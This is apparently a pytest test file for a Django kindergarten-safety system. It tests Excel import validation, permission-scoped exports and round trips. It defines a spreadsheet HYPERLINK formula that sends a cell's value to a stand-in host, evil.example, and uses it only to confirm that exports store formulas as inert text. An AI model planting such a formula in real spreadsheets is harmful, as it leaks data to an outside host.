"""The safety workbooks: the bureau's all-or-nothing profile import, the command, the profile and
hazard exports (scoped, formulas kept as text) and the round trip export → import."""

from __future__ import annotations

import datetime
import io
from typing import Any

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from common.spreadsheets import ImportRejected, SpreadsheetError
from kindergartens.choices import LicenceStatus
from safety import services
from safety.choices import Severity
from safety.models import SafetyProfile
from safety.services import import_safety_profiles
from safety.spreadsheets import MET, NOT_MET, PROFILE_SHEET, profile_columns
from tests.conftest import client_for
from tests.factories import KindergartenFactory

from .conftest import open_hazard

pytestmark = pytest.mark.django_db

HEADERS = [c.header for c in profile_columns()]
IMPORT_URL = reverse("safety:profile_import")
TEMPLATE_URL = reverse("safety:profile_template")
EXPORT_URL = reverse("safety:profile_export")
HAZARD_EXPORT_URL = reverse("safety:hazard_export")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def good_row(code: str = "KGA0001", **cells: Any) -> dict[str, Any]:
    """A complete row of a compliant profile, keyed by header, with `cells` laid over it."""
    row = {
        "幼儿园编码": code,
        "教职工人数": 45,
        "安全管理负责人": "张伟",
        "安全管理负责人电话": "010-64701234",
        "专职安全管理人员数": 1,
        "专职保安员数": 3,
        "兼职保安员数": 1,
        "保安服务公司": "北京保安服务总公司",
        "保安公司持有保安服务许可证": "是",
        "保安员证编号": "京保 0001\n京保 0002",
        "保安员证最早到期日": "2027-06-30",
        "每班幼儿身边看护人数": 2,
        "已安装一键式报警": "是",
        "一键式报警与公安报警中心联网": "是",
        "一键式报警最近测试日期": datetime.date(2026, 11, 20),
        "监控摄像头数": 24,
        "监控覆盖区域": "出入口、教室,厨房",
        "监控盲区": "",
        "监控录像保存天数": 30,
        "视频监控与公安联网": "是",
        "已安装入侵报警系统": "是",
        "入侵报警记录保存天数": 30,
        "已安装门禁系统": "否",
        "门禁记录保存天数": 0,
        "实行封闭式管理": "是",
    }
    row.update(cells)
    return row


def xlsx(rows: list[dict[str, Any]], *, headers: list[str] = HEADERS, name: str = "安全档案.xlsx"):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = PROFILE_SHEET
    sheet.append(headers)
    for cells in rows:
        sheet.append([cells.get(h) for h in headers])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def sheet_rows(content: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def exported(response) -> list[dict[str, Any]]:
    """The data rows of an export, keyed by header."""
    assert response.status_code == 200
    header, *rows = sheet_rows(response.content)
    return [dict(zip(header, r, strict=True)) for r in rows]


def rejected(file, user) -> list[tuple[int, str, str]]:
    with pytest.raises(ImportRejected) as caught:
        import_safety_profiles(file=file, user=user)
    return [(e.row, e.column, e.message) for e in caught.value.errors]


def history_rows() -> int:
    return SafetyProfile.history.count()


def test_it_imports_a_good_workbook_with_every_value_as_typed(bureau_official, kg_a, kg_b):
    result = import_safety_profiles(
        file=xlsx(
            [
                good_row("KGA0001"),
                good_row(
                    "KGB0001",
                    专职保安员数=2,
                    监控覆盖区域="gates",
                    已安装一键式报警="否",
                    一键式报警与公安报警中心联网="否",
                ),
            ]
        ),
        user=bureau_official,
    )
    assert (result.created, result.updated, result.unchanged) == (2, 0, 0)
    a = SafetyProfile.objects.get(kindergarten=kg_a)
    assert (a.staff_count, a.safety_manager, a.safety_manager_phone) == (45, "张伟", "010-64701234")
    assert (a.full_time_safety_managers, a.guards_full_time, a.guards_part_time) == (1, 3, 1)
    assert a.guard_company == "北京保安服务总公司" and a.guard_company_licensed is True
    assert a.guard_certificates == "京保 0001\n京保 0002"
    assert a.guard_certificates_expiry == datetime.date(2027, 6, 30)
    assert a.alarm_installed and a.alarm_linked and a.alarm_last_tested == datetime.date(2026, 11, 20)
    assert a.cameras == 24 and a.video_areas == ["gates", "classrooms", "kitchen"] and a.video_blind_spots == ""
    assert (a.video_retention_days, a.video_linked) == (30, True)
    assert (a.intrusion_alarm_installed, a.intrusion_log_days) == (True, 30)
    assert (a.access_control_installed, a.access_log_days, a.closed_campus) == (False, 0, True)
    b = SafetyProfile.objects.get(kindergarten=kg_b)
    assert b.guards_full_time == 2 and b.video_areas == ["gates"] and not b.alarm_installed
    entry = a.history.get()
    assert (
        entry.history_user == bureau_official and entry.history_change_reason == "安全档案 Excel 导入（安全档案.xlsx）"
    )


def test_it_updates_a_profile_and_records_who_and_why(bureau_official, director_a, kg_a):
    services.profile_save(kindergarten=kg_a, user=director_a, staff_count=40, guards_full_time=1)
    result = import_safety_profiles(file=xlsx([good_row()], name="更正.xlsx"), user=bureau_official)
    assert (result.created, result.updated, result.unchanged) == (0, 1, 0)
    profile = SafetyProfile.objects.get(kindergarten=kg_a)
    assert profile.guards_full_time == 3 and profile.staff_count == 45
    latest = profile.history.first()
    assert latest.history_user == bureau_official and latest.history_change_reason == "安全档案 Excel 导入（更正.xlsx）"
    assert profile.history.count() == 2


@pytest.mark.parametrize(
    ("cells", "column", "reason"),
    [
        ({"幼儿园编码": "NOPE001"}, "幼儿园编码", "找不到幼儿园“NOPE001”"),
        ({"专职保安员数": "三"}, "专职保安员数", "“三”不是整数"),
        ({"教职工人数": -3}, "教职工人数", "0"),
        ({"监控录像保存天数": 12.5}, "监控录像保存天数", "不是整数"),
        ({"保安员证最早到期日": "2027-13-01"}, "保安员证最早到期日", "不是有效日期"),
        ({"实行封闭式管理": "有"}, "实行封闭式管理", "应填写“是”或“否”"),
        ({"监控覆盖区域": "出入口、操场"}, "监控覆盖区域", "未知的区域“操场”"),
        ({"安全管理负责人电话": "打电话"}, "安全管理负责人电话", ""),
        ({"已安装一键式报警": "否"}, "一键式报警与公安报警中心联网", "未安装一键式报警，不能与公安联网"),
    ],
)
def test_it_rejects_the_whole_workbook_for_one_bad_cell(bureau_official, director_a, kg_a, kg_b, cells, column, reason):
    services.profile_save(kindergarten=kg_a, user=director_a, staff_count=40)
    before = history_rows()
    file = xlsx([good_row("KGA0001", 教职工人数=50), good_row("KGB0001", **cells)])
    errors = rejected(file, bureau_official)
    assert len(errors) == 1
    row, header, message = errors[0]
    assert (row, header) == (3, column) and reason in message
    # Nothing changed: A keeps its values, B has no profile, no history was written.
    assert SafetyProfile.objects.get(kindergarten=kg_a).staff_count == 40
    assert not SafetyProfile.objects.filter(kindergarten=kg_b).exists()
    assert history_rows() == before


def test_it_refuses_kindergartens_that_do_not_operate_and_repeated_codes(bureau_official, kg_a):
    KindergartenFactory(code="KGX0001", name="已撤销幼儿园", licence_status=LicenceStatus.CLOSED)
    errors = rejected(xlsx([good_row("KGA0001"), good_row("KGX0001"), good_row("KGA0001")]), bureau_official)
    assert errors == [
        (3, "幼儿园编码", "已撤销幼儿园的办园许可状态为“已撤销”，不在办，不能导入安全工作档案。"),
        (4, "幼儿园编码", "编码“KGA0001”与第 2 行重复。"),
    ]
    assert not SafetyProfile.objects.exists()


def test_it_lists_every_error_by_row_and_column(bureau_official, kg_a, kg_b):
    file = xlsx(
        [good_row("KGA0001", 专职保安员数="x", 实行封闭式管理="maybe"), good_row("KGB0001", 门禁记录保存天数="")]
    )
    assert [(r, c) for r, c, _m in rejected(file, bureau_official)] == [(2, "专职保安员数"), (2, "实行封闭式管理")]


def test_it_names_a_missing_column_and_refuses_what_is_not_xlsx(bureau_official, kg_a):
    errors = rejected(xlsx([good_row()], headers=[h for h in HEADERS if h != "专职保安员数"]), bureau_official)
    assert errors == [(1, "专职保安员数", "缺少这一列，请使用导入模板的表头。")]
    with pytest.raises(SpreadsheetError):
        import_safety_profiles(file=SimpleUploadedFile("档案.csv", b"a,b\n1,2\n"), user=bureau_official)


def test_it_changes_nothing_when_the_same_workbook_is_imported_again(bureau_official, kg_a, kg_b):
    rows = [good_row("KGA0001"), good_row("KGB0001", 监控覆盖区域="厨房、出入口")]
    import_safety_profiles(file=xlsx(rows), user=bureau_official)
    before = history_rows()
    updated_at = SafetyProfile.objects.get(kindergarten=kg_a).updated_at
    # The same areas in another order are the same areas.
    rows[1]["监控覆盖区域"] = "出入口，厨房"
    result = import_safety_profiles(file=xlsx(rows), user=bureau_official)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    assert history_rows() == before
    assert SafetyProfile.objects.get(kindergarten=kg_a).updated_at == updated_at


def test_it_lets_only_bureau_staff_import(director_a, wangjing_official, kg_a):
    for user in (director_a, wangjing_official):
        with pytest.raises(PermissionDenied):
            import_safety_profiles(file=xlsx([good_row()]), user=user)
    assert not SafetyProfile.objects.exists()


# The command


def test_it_imports_from_the_command_line(tmp_path, bureau_official, kg_a, capsys):
    path = tmp_path / "档案.xlsx"
    path.write_bytes(xlsx([good_row()]).read())
    call_command("import_safety_profiles", str(path), "--user", "bureau")
    assert "新建 1 份档案" in capsys.readouterr().out
    assert SafetyProfile.objects.get(kindergarten=kg_a).history.get().history_user == bureau_official


def test_the_command_prints_every_error_and_writes_nothing(tmp_path, kg_a, capsys):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(xlsx([good_row(专职保安员数="三")]).read())
    with pytest.raises(CommandError):
        call_command("import_safety_profiles", str(path))
    assert "第 2 行\t专职保安员数\t“三”不是整数。" in capsys.readouterr().err
    assert not SafetyProfile.objects.exists()
    with pytest.raises(CommandError):
        call_command("import_safety_profiles", str(tmp_path / "missing.xlsx"))


# The pages


def test_it_shows_a_bad_workbooks_errors_on_the_import_page(client, bureau_official, kg_a):
    client = client_for(client, bureau_official)
    assert client.get(IMPORT_URL).status_code == 200
    page = client.post(IMPORT_URL, {"file": xlsx([good_row(监控覆盖区域="操场")])})
    assert page.status_code == 200
    text = page.content.decode()
    assert 'id="import-errors"' in text and "未知的区域“操场”" in text and "监控覆盖区域" in text
    assert not SafetyProfile.objects.exists()
    response = client.post(IMPORT_URL, {"file": xlsx([good_row()])})
    assert response.status_code == 302 and SafetyProfile.objects.filter(kindergarten=kg_a).exists()


def test_it_keeps_the_import_and_its_template_for_bureau_staff(client, bureau_official, director_a, wangjing_official):
    for user in (director_a, wangjing_official):
        client_for(client, user)
        assert client.get(IMPORT_URL).status_code == 403
        assert client.post(IMPORT_URL, {"file": xlsx([good_row()])}).status_code == 403
        assert client.get(TEMPLATE_URL).status_code == 403
    template = client_for(client, bureau_official).get(TEMPLATE_URL)
    assert template.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(template.content))
    assert workbook.sheetnames == [PROFILE_SHEET, "说明"]
    assert [c.value for c in workbook[PROFILE_SHEET][1]] == HEADERS


def test_the_list_pages_offer_the_workbooks_to_whom_they_are_for(client, bureau_official, wangjing_official):
    text = client_for(client, bureau_official).get(reverse("safety:index")).content.decode()
    assert EXPORT_URL in text and IMPORT_URL in text
    text = client_for(client, wangjing_official).get(reverse("safety:index")).content.decode()
    assert EXPORT_URL in text and IMPORT_URL not in text
    text = client.get(reverse("safety:hazard_list"), {"severity": "major"}).content.decode()
    assert f"{HAZARD_EXPORT_URL}?severity=major" in text


# Exports


@pytest.fixture
def profiles(bureau_official, kg_a, kg_b, kg_c):
    """A compliant profile for A, and profiles with gaps for B and C."""
    import_safety_profiles(
        file=xlsx([good_row("KGA0001"), good_row("KGB0001", 专职保安员数=1), good_row("KGC0001", 实行封闭式管理="否")]),
        user=bureau_official,
    )
    return {p.kindergarten.code: p for p in SafetyProfile.objects.select_related("kindergarten")}


@pytest.mark.parametrize(
    ("persona", "codes"),
    [
        ("bureau_official", {"KGA0001", "KGB0001", "KGC0001"}),
        ("wangjing_official", {"KGA0001", "KGB0001"}),
        ("director_a", {"KGA0001"}),
        ("director_b", {"KGB0001"}),
        ("inspector", {"KGB0001", "KGC0001"}),
    ],
)
def test_it_exports_only_the_profiles_the_user_may_see(client, personas, profiles, persona, codes):
    rows = exported(client_for(client, personas[persona]).get(EXPORT_URL))
    assert {r["幼儿园编码"] for r in rows} == codes


def test_it_exports_the_profiles_list_filters_and_nothing_for_a_bad_filter(
    client, bureau_official, profiles, shuangjing
):
    client = client_for(client, bureau_official)
    assert {r["幼儿园编码"] for r in exported(client.get(EXPORT_URL, {"subdistrict": shuangjing.pk}))} == {"KGC0001"}
    assert {r["幼儿园编码"] for r in exported(client.get(EXPORT_URL, {"closed_campus": "false"}))} == {"KGC0001"}
    assert exported(client.get(EXPORT_URL, {"subdistrict": "not-a-number"})) == []
    assert client.logout() is None and client.get(EXPORT_URL).status_code == 302


def test_it_exports_each_rule_met_or_not(client, bureau_official, profiles):
    rows = {r["幼儿园编码"]: r for r in exported(client_for(client, bureau_official).get(EXPORT_URL))}
    a, b, c = rows["KGA0001"], rows["KGB0001"], rows["KGC0001"]
    assert a["幼儿园名称"] == "望京第一幼儿园"
    assert a["专职保安员是否达标"] == MET and b["专职保安员是否达标"] == NOT_MET
    assert a["封闭式管理是否达标"] == MET and c["封闭式管理是否达标"] == NOT_MET
    assert a["一键式报警与公安联网是否达标"] == MET
    assert "专职保安员：" in b["未达标原因"] and "登记 1 名" in b["未达标原因"]


def test_the_profile_export_re_imports_unchanged(client, bureau_official, director_a, kg_a, profiles):
    # Values that could drift on the way: formulas, line breaks, areas stored out of order, dates.
    services.profile_save(
        kindergarten=kg_a,
        user=director_a,
        video_blind_spots=FORMULA,
        safety_manager="0123",
        video_areas=["kitchen", "gates"],
        guard_certificates="A-1\nA-2",
    )
    response = client_for(client, bureau_official).get(EXPORT_URL)
    before = history_rows()
    result = import_safety_profiles(file=SimpleUploadedFile("导出.xlsx", response.content), user=bureau_official)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 3)
    assert history_rows() == before
    profile = SafetyProfile.objects.get(kindergarten=kg_a)
    assert profile.video_blind_spots == FORMULA and profile.video_areas == ["kitchen", "gates"]


def test_it_writes_text_that_looks_like_a_formula_as_text(client, bureau_official, director_a, kg_a):
    services.profile_save(kindergarten=kg_a, user=director_a, safety_manager="=1+1", video_blind_spots=FORMULA)
    open_hazard(kg_a, bureau_official, description=FORMULA, owner="@SUM(A1)")
    client = client_for(client, bureau_official)
    for url, texts in ((EXPORT_URL, ["=1+1", FORMULA]), (HAZARD_EXPORT_URL, [FORMULA, "@SUM(A1)"])):
        sheet = openpyxl.load_workbook(io.BytesIO(client.get(url).content)).worksheets[0]
        cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in texts}
        assert set(cells) == set(texts)
        assert all(cell.data_type == "s" for cell in cells.values())


@pytest.mark.parametrize(
    ("persona", "codes"),
    [
        ("bureau_official", {"KGA0001", "KGB0001", "KGC0001"}),
        ("wangjing_official", {"KGA0001", "KGB0001"}),
        ("director_a", {"KGA0001"}),
        ("inspector", {"KGB0001", "KGC0001"}),
    ],
)
def test_it_exports_only_the_hazards_the_user_may_see(client, personas, hazards, persona, codes):
    rows = exported(client_for(client, personas[persona]).get(HAZARD_EXPORT_URL))
    assert {r["幼儿园编码"] for r in rows} == codes


def test_the_hazard_export_follows_the_lists_filters(client, bureau_official, hazards, kg_c):
    major = open_hazard(kg_c, bureau_official, severity=Severity.MAJOR, description="围墙开裂")
    client = client_for(client, bureau_official)
    rows = exported(client.get(HAZARD_EXPORT_URL, {"severity": "major"}))
    assert [(r["幼儿园编码"], r["隐患描述"], r["隐患等级"]) for r in rows] == [("KGC0001", "围墙开裂", "重大隐患")]
    assert rows[0]["整改期限"] == datetime.datetime.combine(major.deadline, datetime.time())
    assert rows[0]["是否逾期"] == "否" and rows[0]["状态"] == "待整改"
    assert exported(client.get(HAZARD_EXPORT_URL, {"status": "no-such-status"})) == []


def test_the_exports_cost_the_same_queries_for_more_rows(
    client, bureau_official, profiles, django_assert_max_num_queries
):
    client = client_for(client, bureau_official)
    client.get(EXPORT_URL)  # session and user loaded once
    # 11: the export's queries and the security log's row for the export (accounts.security_log).
    with django_assert_max_num_queries(11):
        client.get(EXPORT_URL)
    for n in range(20):
        kindergarten = KindergartenFactory()
        services.profile_save(kindergarten=kindergarten, user=bureau_official, staff_count=n)
    with django_assert_max_num_queries(11):
        assert len(exported(client.get(EXPORT_URL))) == 23
